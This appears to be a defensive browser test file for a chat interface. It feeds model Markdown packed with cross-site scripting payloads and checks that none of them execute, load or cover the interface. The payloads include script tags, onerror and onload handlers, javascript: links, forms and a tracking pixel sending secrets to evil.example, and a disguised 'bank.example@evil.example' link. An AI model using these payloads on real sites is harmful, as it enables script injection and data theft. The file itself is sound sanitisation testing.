// A model that writes the worst it can: nothing runs, nothing is fetched, nothing is drawn over the strip.
import assert from "node:assert/strict";
import { after, test } from "node:test";
import { closeBrowser, DESKTOP_DARK, PHONE } from "./support/browser.ts";
import { ask, scene } from "./support/scene.ts";

after(closeBrowser);

const HOSTILE = `# Title <script>window.owned = 1</script>

<img src="https://evil.example/a.png" onerror="window.owned = 2">
<iframe src="https://evil.example/"></iframe>
<style>* { display: none }</style>
<link rel="stylesheet" href="https://evil.example/x.css">
<div style="position:fixed;inset:0;background:green;z-index:99999">Worker confined yes</div>
<form action="https://evil.example/"><input name="passphrase"></form>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<svg onload="window.owned = 3"><a xlink:href="javascript:window.owned = 4">x</a></svg>

![pixel](https://evil.example/pixel.png?secret=1) ![data](data:image/svg+xml,<svg/onload=alert(1)>)

[script](javascript:window.owned=5) [data](data:text/html,x) [same](/api/emergency/panic)
[trusted.example](https://trusted.example@evil.example/?stolen=words)
<https://evil.example/auto> https://evil.example/bare

| a <img src=x onerror=window.owned=6> | b |
| - | - |
| <script>window.owned=7</script> | ![x](https://evil.example/t.png) |

\`\`\`html"><img src=x onerror=window.owned=8>
<script>window.owned = 9</script>
\`\`\`

- [ ] task <b onclick="window.owned=10">bold</b>
`;

const ALLOWED = new Set(
  "DIV P H3 H4 H5 H6 STRONG EM DEL CODE PRE BR HR UL OL LI BLOCKQUOTE TABLE THEAD TBODY TR TH TD SPAN BUTTON FIGURE FIGCAPTION svg path".split(
    " ",
  ),
);

for (const [name, view] of [
  ["desktop", DESKTOP_DARK],
  ["phone", PHONE],
] as const) {
  test(`hostile Markdown is inert: ${name}`, () =>
    scene({ view }, async ({ gateway, test, page }) => {
      gateway.chat = async (stream) => {
        // In pieces, so that every half-written form is drawn too.
        for (let at = 0; at < HOSTILE.length; at += 40) {
          stream.text(HOSTILE.slice(at, at + 40));
          await new Promise((resolve) => setTimeout(resolve, 2));
        }
        stream.reasoning(HOSTILE);
        stream.finish();
      };
      await ask(page, HOSTILE);
      const found = await page.evaluate(() => ({
        owned: (window as unknown as { owned?: number }).owned,
        elements: [...document.querySelectorAll(".markdown, .markdown *")].map(
          (one) => one.tagName,
        ),
        attributes: [...document.querySelectorAll(".markdown *")].flatMap((one) =>
          [...one.attributes].map((attribute) => attribute.name),
        ),
      }));
      assert.equal(found.owned, undefined);
      assert.deepEqual(
        [...new Set(found.elements)].filter((tag) => !ALLOWED.has(tag)),
        [],
      );
      // No address, no handler, no style: none of these can come from the text.
      const attributes = new Set(found.attributes);
      for (const never of ["href", "src", "style", "onerror", "onclick", "action", "id"]) {
        assert.ok(!attributes.has(never), never);
      }
      assert.deepEqual(
        gateway.asked.filter((route) => /emergency|evil/.test(route)),
        [],
      );
      await test.assertAccessible("hostile answer");
      await test.assertNoSidewaysScroll("hostile answer");
      await test.screenshot(`hostile-${name}`);
    }));
}

test("nothing in the content area can be painted over the strip or the sidebar", () =>
  scene({}, async ({ page }) => {
    await ask(page, "Hello");
    // What a model cannot do at all, done by hand: a box that wants to cover the whole page.
    const covered = await page.evaluate(() => {
      for (const within of [".turn-answer .markdown", ".content-view"]) {
        const box = document.createElement("div");
        box.style.cssText = "position:fixed;inset:-9999px;z-index:2147483647;background:red";
        document.querySelector(within)?.append(box);
      }
      return [".strip", ".sidebar"].filter((selector) => {
        const trusted = document.querySelector(selector);
        const place = trusted?.getBoundingClientRect();
        if (trusted === null || place === undefined) return true;
        return [0.1, 0.35, 0.6, 0.9].some((part) => {
          const x = place.left + place.width * part;
          const hit = document.elementFromPoint(x, place.top + place.height * part);
          return hit === null || !trusted.contains(hit);
        });
      });
    });
    assert.deepEqual(covered, []);
  }));

test("a link shows its true host and asks before it opens, without a referrer", () =>
  scene({}, async ({ gateway, test, page }) => {
    gateway.chat = (stream) => {
      stream.text("See [your bank](https://bank.example@evil.example/login?x=1).");
      stream.finish();
    };
    await ask(page, "Link please");
    const link = page.getByRole("link", { name: "your bank (evil.example)" });
    await link.click();
    const dialog = page.getByRole("dialog", { name: "Open this address?" });
    assert.equal(await dialog.locator(".host").innerText(), "evil.example");
    const open = dialog.getByRole("link", { name: "Open in a new tab" });
    assert.equal(await open.getAttribute("rel"), "noreferrer noopener");
    assert.equal(await open.getAttribute("href"), "https://bank.example@evil.example/login?x=1");
    await test.assertAccessible("link dialog");
    await dialog.getByRole("button", { name: "Cancel" }).click();
    await dialog.waitFor({ state: "detached" });
    assert.equal(page.context().pages().length, 1);
  }));

test("names of files, models and events are text, whatever they hold", () =>
  scene(
    {
      at: "#/models",
      set: (gateway) => {
        const name = '<img src=x onerror="window.owned=1">.gguf';
        gateway.models = [{ name, sha256: "ab".repeat(32), size: 1, state: "unloaded" }];
        gateway.claims = [
          { id: "1", name, state: "rejected", rejection: { stage: 2, rule: name, reason: name } },
        ];
        gateway.audit = [{ seq: 1, time: name, room: name, event: name, fields: { [name]: name } }];
      },
    },
    async ({ page }) => {
      await page.locator(".card h3").first().waitFor();
      await page.locator(".place", { hasText: "Audit" }).click();
      await page.locator(".audit li").first().waitFor();
      const owned = await page.evaluate(() => (window as unknown as { owned?: number }).owned);
      assert.equal(owned, undefined);
      assert.equal(await page.locator(".content img").count(), 0);
    },
  ));
